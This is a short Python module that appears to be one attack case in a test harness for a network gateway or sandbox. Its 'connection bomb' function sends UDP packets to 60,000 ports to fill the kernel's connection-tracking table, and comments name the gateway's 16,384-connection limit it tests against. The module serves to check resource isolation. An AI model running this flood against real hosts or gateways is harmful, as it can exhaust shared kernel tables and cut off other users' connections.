"""Sends to one port after another: the gateway keeps each of these connections in the kernel's memory for a while, in a table of the whole machine's."""
import socket

from attack import application, given

TITLE = "connection bomb"
WALL = "the gateway keeps 16,384 connections of an app's, and refuses more"
SECOND = "the kernel's own limit for each network namespace"
COUNT = 60_000


def bomb():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        for port in range(1, COUNT + 1):
            try:
                sender.sendto(b"x", (given["good"], port))
            except OSError:
                # Of one before, which was refused.
                sender.sendto(b"x", (given["good"], port))
    return COUNT


ROUTES = {"/bomb": bomb}
app = application(globals())
